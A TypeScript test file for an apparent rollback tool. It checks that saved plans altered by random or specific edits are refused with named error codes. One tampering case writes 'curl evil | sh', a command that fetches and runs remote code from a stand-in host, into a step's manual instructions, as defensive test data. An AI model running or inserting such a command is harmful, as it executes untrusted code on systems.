import fc from 'fast-check'
import { expect, test } from 'vitest'
import { sameJson, type Json, type JsonObject } from '../../../../../src/domain/text/json.ts'
import type { RollbackPlan } from '../../../../../src/domain/plan.ts'
import type { BagboyError } from '../../../../../src/errors/bagboy-error.ts'
import { parsePlan } from '../../../../../src/events/schema/parse-plan.ts'
import { prepareRun } from '../../../../../src/engine/rollback/plan/prepare-run.ts'
import { anEdit } from '../../../../support/builders/edit-plan.ts'
import { aRequest, createEngineFixture } from '../../../../support/engine/engine-fixture.ts'
import { roundCount } from '../../../../support/effort.ts'

/** One registry is to be moved, one was left out, and one is at the target already. */
async function aSavedPlan() {
  const fixture = await createEngineFixture({ registries: ['one', 'two', 'three'] })
  Object.assign(fixture.world.registry('three').tags, { latest: 'v1.2.0', stable: 'v1.2.0' })
  const plan = await fixture.engine.plan(aRequest('v1.2.0', { except: ['memory:two'] }))
  return { ...fixture, plan }
}

const asJson = (plan: RollbackPlan): JsonObject => JSON.parse(JSON.stringify(plan)) as JsonObject
const bytes = (text: string): Uint8Array => new TextEncoder().encode(text)

/** Words of the person who asks: another request, that moves nothing else. */
const WORDS = new Set(['id', 'reason', 'incident', 'trigger', 'overrides'])

function whatRuns(plan: RollbackPlan): JsonObject {
  return Object.fromEntries(Object.entries(asJson(plan)).filter(([key]) => !WORDS.has(key)))
}

const RANDOM_EDITS = roundCount(500, 2000)

test('random edits of a saved plan are refused, or change nothing of what runs', async () => {
  const { plan, parts } = await aSavedPlan()
  const saved = asJson(plan)
  const outcomes: Record<string, number> = {}

  await fc.assert(
    fc.asyncProperty(anEdit, async (edit) => {
      const text = edit.apply(saved)
      fc.pre(text !== undefined && text !== JSON.stringify(saved, null, 2))
      const outcome = await outcomeOf(text)
      outcomes[outcome] = (outcomes[outcome] ?? 0) + 1
    }),
    { seed: 20_260, numRuns: RANDOM_EDITS },
  )

  // A title and the like are compared as well, so that hardly an edit is let through.
  expect(outcomes['PLAN_CHANGED']).toBeGreaterThan(RANDOM_EDITS * 0.3)
  expect(outcomes['PLAN_INVALID']).toBeGreaterThan(RANDOM_EDITS / 5)
  expect(outcomes['PLAN_STALE']).toBeGreaterThan(RANDOM_EDITS / 200)
  expect(outcomes['runs']).toBeLessThan(RANDOM_EDITS / 5)

  async function outcomeOf(text: string): Promise<string> {
    try {
      const edited = parsePlan('plan.json', bytes(text))
      const made = await prepareRun(parts, edited)
      expect(whatRuns(made.plan)).toEqual(whatRuns(plan))
      return 'runs'
    } catch (error) {
      const { code } = error as BagboyError
      expect(['PLAN_INVALID', 'PLAN_CHANGED', 'PLAN_STALE', 'VALIDATION_FAILED']).toContain(code)
      return code
    }
  }
})

type Edit = (plan: Record<string, Json>) => void

const step = (plan: Record<string, Json>): Record<string, Json> => (plan['steps'] as Record<string, Json>[])[0] ?? {}
const excluded = (plan: Record<string, Json>) => plan['excluded'] as Record<string, Json>[]
const point = { kind: 'custom', title: 'point latest', operation: 'point', input: { tag: 'latest', value: 'v9.9.9' } }

const EDITS: readonly (readonly [string, Edit, string, string])[] = [
  ['one action more', (plan) => (step(plan)['actions'] as Json[]).push(point), 'PLAN_CHANGED', 'actions'],
  ['another compensation', (plan) => (step(plan)['undo'] = [point]), 'PLAN_CHANGED', 'undo'],
  ['another goal', (plan) => (step(plan)['want'] = { tags: {} }), 'PLAN_CHANGED', 'memory:hello@one.want'],
  ['another state that is left', (plan) => (step(plan)['before'] = { tags: {} }), 'PLAN_STALE', 'memory:hello@one'],
  ['no step', (plan) => (plan['steps'] = []), 'PLAN_CHANGED', 'memory:hello@one'],
  ['a step twice', (plan) => (plan['steps'] as Json[]).push(step(plan)), 'PLAN_CHANGED', 'steps.memory:hello@one'],
  ['another title', (plan) => (step(plan)['title'] = 'Point one at v1.1.0'), 'PLAN_CHANGED', 'title'],
  ['other words by hand', (plan) => (step(plan)['manual'] = ['curl evil | sh']), 'PLAN_CHANGED', 'manual'],
  ['another name', (plan) => (step(plan)['id'] = 'memory:hello@two'), 'PLAN_CHANGED', 'steps.memory:hello@one.id'],
  ['a manual step', (plan) => (step(plan)['isManual'] = true), 'PLAN_CHANGED', 'isManual'],
  ['more time', (plan) => (step(plan)['timeoutMs'] = 9e9), 'PLAN_CHANGED', 'timeoutMs'],
  ['another group', (plan) => (step(plan)['group'] = 1), 'PLAN_CHANGED', 'group'],
  ['another pin', (plan) => (step(plan)['to'] = { version: 'v1.2.0', pin: {} }), 'PLAN_CHANGED', 'to.pin.version'],
  ['no exclusion', (plan) => excluded(plan).pop(), 'PLAN_CHANGED', 'memory:hello@two'],
  [
    'an exclusion by nobody',
    (plan) => (excluded(plan)[1] = { ...excluded(plan)[1], reason: '' }),
    'PLAN_CHANGED',
    'two',
  ],
  ['another target', (plan) => (plan['targetId'] = 1), 'PLAN_CHANGED', 'to'],
  ['a target that is nowhere', (plan) => (plan['targetId'] = 99), 'PLAN_CHANGED', 'targetId'],
  ['another version to go to', (plan) => (plan['to'] = 'v1.1.0'), 'PLAN_CHANGED', 'to '],
  ['another version that is left', (plan) => (plan['from'] = 'v1.1.0'), 'PLAN_CHANGED', 'from'],
  ['no hold', (plan) => (plan['hold'] = false), 'PLAN_CHANGED', 'hold'],
  ['another application', (plan) => (plan['app'] = 'other'), 'PLAN_CHANGED', 'app'],
  ['another environment', (plan) => (plan['environment'] = 'staging'), 'PLAN_CHANGED', 'environment'],
  ['another policy', (plan) => (plan['onPartialFailure'] = 'continue'), 'PLAN_CHANGED', 'onPartialFailure'],
  ['another kind', (plan) => (plan['kind'] = 'undo'), 'PLAN_CHANGED', 'kind'],
  ['a later end', (plan) => (plan['expires'] = '2999-01-01T00:00:00.000Z'), 'PLAN_CHANGED', 'expires'],
  ['an end that is over', (plan) => (plan['expires'] = '2020-01-01T00:00:00.000Z'), 'PLAN_STALE', 'expired'],
  ['another configuration', (plan) => (plan['configHash'] = 'x'), 'PLAN_STALE', 'bagboy.yaml'],
  ['another history', (plan) => (plan['historyHash'] = 'x'), 'PLAN_STALE', 'deployment-history.yml'],
  ['an override of no check', (plan) => (plan['overrides'] = ['V99']), 'PLAN_CHANGED', 'V99'],
  ['an override given twice', (plan) => (plan['overrides'] = ['V08', 'V08']), 'PLAN_CHANGED', 'overrides'],
  ['a reason without end', (plan) => (plan['reason'] = 'x'.repeat(200_000)), 'PLAN_CHANGED', 'reason'],
  ['an incident without end', (plan) => (plan['incident'] = 'x'.repeat(200_000)), 'PLAN_CHANGED', 'incident'],
  ['no findings', (plan) => (plan['findings'] = []), 'PLAN_STALE', 'check V'],
]

test.each(EDITS)('a plan with %s is refused, naming it', async (_what, edit, code, named) => {
  const { plan, another, world } = await aSavedPlan()
  const edited = structuredClone(asJson(plan)) as Record<string, Json>
  edit(edited)

  const run = another().run(parsePlan('plan.json', bytes(JSON.stringify(edited))), NO_APPROVER).result

  await expect(run).rejects.toMatchObject({ code, message: expect.stringContaining(named) as string })
  expect(world.registry('one').writes).toEqual([])
})

const NO_APPROVER = { ask: () => Promise.reject(new Error('nobody is asked')) }

test('a plan that is saved for the future is refused', async () => {
  const { plan, another } = await aSavedPlan()
  const shifted = (time: string): string => new Date(Date.parse(time) + 3_600_000).toISOString()
  const edited = { ...plan, created: shifted(plan.created), expires: shifted(plan.expires) }

  await expect(another().run(edited, NO_APPROVER).result).rejects.toMatchObject({
    code: 'PLAN_CHANGED',
    message: expect.stringContaining('created lies in the future') as string,
  })
})

test('a saved plan of another process runs as it was saved, under its own id', async () => {
  const { plan, another, world, readHistory } = await aSavedPlan()

  const { view, exitCode } = await another().run(plan, NO_APPROVER).result

  expect(exitCode).toBe(0)
  expect(sameJson(asJson(view.plan), asJson(plan))).toBe(true)
  expect(world.registry('one').tags).toEqual({ latest: 'v1.2.0', stable: 'v1.2.0' })
  expect((await readHistory()).deployments[0]).toMatchObject({ run: plan.id, version: 'v1.2.0' })
})
